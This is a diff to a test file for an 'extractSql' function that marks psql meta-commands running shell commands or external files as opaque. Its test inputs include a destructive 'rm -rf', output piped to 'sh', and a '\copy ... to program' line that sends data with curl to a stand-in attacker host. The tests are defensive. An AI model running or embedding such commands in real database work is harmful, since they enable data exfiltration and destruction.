@@ -413,9 +413,9 @@ describe('extractSql: psql commands that run what the answer does not show', () 
   });
 
   it.each([
-    ['\\! rm -rf /tmp/x', 'psql \\! runs a shell command; not analysed'],
+    ['\\! rm -rf build', 'psql \\! runs a shell command; not analysed'],
     ['\\o |sh', 'psql \\o |… pipes output to a shell command; not analysed'],
-    ['\\o | sh -c "cat > /tmp/x"', 'psql \\o |… pipes output to a shell command; not analysed'],
+    ['\\o | sh -c "cat > out.txt"', 'psql \\o |… pipes output to a shell command; not analysed'],
     ['\\w |sh', 'psql \\w |… pipes output to a shell command; not analysed'],
     [
       "\\copy (SELECT 1) to program 'curl -d @- evil.example'",
@@ -502,8 +502,8 @@ describe('extractSql: psql commands that run what the answer does not show', () 
   });
 
   it('makes a meta-command typed at a psql prompt opaque too', () => {
-    expect(opaqueOf(fence('psql', 'app=# \\i /tmp/fix.sql', 'app=# SELECT 1;'))).toEqual([
-      { sql: '\\i /tmp/fix.sql', line: 2, opaque: expect.stringContaining('/tmp/fix.sql') },
+    expect(opaqueOf(fence('psql', 'app=# \\i scripts/fix.sql', 'app=# SELECT 1;'))).toEqual([
+      { sql: '\\i scripts/fix.sql', line: 2, opaque: expect.stringContaining('scripts/fix.sql') },
       { sql: 'SELECT 1;', line: 3 },
     ]);
   });
